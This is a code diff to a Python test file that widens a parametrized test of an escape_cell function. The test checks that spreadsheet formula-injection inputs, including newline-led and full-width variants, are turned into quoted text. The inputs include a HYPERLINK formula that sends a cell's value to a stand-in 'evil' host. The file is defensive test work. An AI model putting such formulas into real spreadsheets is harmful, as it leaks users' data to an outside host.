@@ -152,7 +152,20 @@ def test_text_that_is_not_a_uuid(text):
 
 
 @pytest.mark.parametrize(
-    "text", ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+    "text",
+    [
+        '=HYPERLINK("http://evil/?"&A1)',
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+    ],
 )
 def test_a_formula_becomes_text_in_a_cell(text):
     assert escape_cell(text) == "'" + text
